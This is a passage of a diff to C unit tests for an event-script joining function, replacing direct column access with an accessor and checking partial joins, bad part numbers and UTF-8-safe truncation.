 	ev[1] = part("{a}", 2, 12, "b", 2);
 	ev[2] = part("{a}", 12, 12, "l", 3);
 	ck_assert_int_eq(ev_scripts_join(ev, 3, &arena), 0);
-	ck_assert_str_eq(ev[1]->col[EV_COL_SCRIPT_TEXT], "bdl");
-	ck_assert_str_eq(ev[1]->col[EV_COL_SCRIPT_NOTE],
+	ck_assert_str_eq(ev_col(ev[1], EV_COL_SCRIPT_TEXT), "bdl");
+	ck_assert_str_eq(ev_col(ev[1], EV_COL_SCRIPT_NOTE),
 	    "partial: 3 of 12 parts (missing 1, 3, 5, 6, 7 and 4 more)");
-	ck_assert_ptr_null(ev[0]->col[EV_COL_SCRIPT_TEXT]);
+	ck_assert_ptr_null(ev_col(ev[0], EV_COL_SCRIPT_TEXT));
 }
 END_TEST
 
@@ -1158,7 +1161,7 @@ START_TEST(test_script_bad_numbers)
 	ev[3] = part("{b}", 1, 2000000000, "huge", 4);
 	ck_assert_int_eq(ev_scripts_join(ev, 4, &arena), 0);
 	for (int i = 0; i < 4; i++)
-		ck_assert_ptr_null(ev[i]->col[EV_COL_SCRIPT_TEXT]);
+		ck_assert_ptr_null(ev_col(ev[i], EV_COL_SCRIPT_TEXT));
 }
 END_TEST
 
@@ -1181,13 +1184,14 @@ START_TEST(test_script_cut)
 	ev[0] = part("{a}", 1, 2, a, 1);
 	ev[1] = part("{a}", 2, 2, b, 2);
 	ck_assert_int_eq(ev_scripts_join(ev, 2, &arena), 0);
-	len = strlen(ev[0]->col[EV_COL_SCRIPT_TEXT]);
+	len = strlen(ev_col(ev[0], EV_COL_SCRIPT_TEXT));
 	ck_assert_uint_le(len, EV_SCRIPT_MAX);
 	ck_assert_uint_ge(len, EV_SCRIPT_MAX - 1);
 	/* it ends on a whole character */
-	ck_assert_int_ne((unsigned char)ev[0]->col[EV_COL_SCRIPT_TEXT][len - 1],
-	    0xc3);
-	ck_assert_str_eq(ev[0]->col[EV_COL_SCRIPT_NOTE], "cut at 1048576 bytes");
+	ck_assert_int_ne((unsigned char)ev_col(ev[0],
+	    EV_COL_SCRIPT_TEXT)[len - 1], 0xc3);
+	ck_assert_str_eq(ev_col(ev[0], EV_COL_SCRIPT_NOTE),
+	    "cut at 1048576 bytes");
 	free(a);
 	free(b);
 }
